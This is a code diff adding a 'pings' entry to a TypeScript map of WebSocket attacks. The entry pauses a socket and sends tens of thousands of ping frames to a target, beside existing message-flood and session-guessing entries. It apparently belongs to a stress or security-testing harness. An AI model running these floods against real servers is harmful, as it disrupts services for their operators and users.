@@ -126,6 +126,12 @@ export const WEBSOCKET_ATTACKS: Readonly<Record<string, Attack>> = {
       for (let i = 0; i < 1_500 * scale; i++) socket.send(JSON.stringify({ ...CONFIGURE, participants }))
       await delay(4_000 * scale)
     }),
+  pings: (target, means) =>
+    connected(target, means, async (socket, { scale }) => {
+      socket.pause()
+      for (let i = 0; i < 50_000 * scale; i++) socket.ping(Buffer.alloc(125))
+      await delay(1_000 * scale)
+    }),
   'guessed sessions': (target, means) =>
     connected(target, means, async (socket, { random, scale }) => {
       for (let i = 0; i < 200 * scale; i++) {
